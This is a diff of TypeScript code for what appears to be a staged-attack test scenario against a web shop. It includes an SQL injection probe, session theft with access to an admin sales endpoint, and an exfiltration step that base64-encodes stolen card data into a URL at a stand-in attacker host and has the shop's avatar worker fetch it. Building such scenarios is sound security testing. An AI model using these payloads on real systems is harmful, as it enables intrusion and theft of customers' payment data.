@@ -29,6 +29,7 @@ const PROBES = [
   `/products?category=${encodeURIComponent("toys' or '1'='1' -- ")}`,
 ] as const;
 
+const CARRIED_OUT = 2;
 /** Of the attacker: documentation address (RFC 5737) that the shop's stand-in for the internet answers. */
 const DROP = 'http://203.0.113.77:8443/collect';
 
@@ -51,7 +52,9 @@ export const stagedAttack: Scenario = {
       await stage.wait(stage.random.between(500, 1_500));
     }
     await pause(stage);
-    await actor.signIn(stage.customer()); // an account is made in a minute
+    const account = stage.customer(); // made in a minute
+    await actor.signIn(account);
+    const own = actor.token;
     const stolen = await breakIn(stage, actor);
     await pause(stage);
     const cards = await goOn(stage, actor);
@@ -60,8 +63,10 @@ export const stagedAttack: Scenario = {
     const sales = await actor.act({ method: 'GET', path: '/admin/sales?days=365&pace=0' });
     mustHold(sales.status === 200, 'the stolen session opened nothing');
     await pause(stage);
+    actor.adopt(own);
     await carryOut(stage, actor, cards);
-    return { actors: [actor] };
+    // on Kafka, read by the batch, others' jobs may have been taken with these
+    return { actors: [actor], companions: await stage.inBatchesOf('avatars', account, CARRIED_OUT) };
   },
 };
 
@@ -104,7 +109,7 @@ async function goOn(stage: Stage, actor: Actor): Promise<string> {
 
 /** The shop's own worker takes it out. */
 async function carryOut(stage: Stage, actor: Actor, text: string): Promise<void> {
-  for (let turn = 0; turn < 2; turn++) {
+  for (let turn = 0; turn < CARRIED_OUT; turn++) {
     const url = `${DROP}?d=${Buffer.from(`${turn}:${text}`).toString('base64url')}`;
     const answer = await actor.act({ method: 'POST', path: '/account/avatar', body: { url } });
     mustHold(answer.status === 202, 'no job was queued');
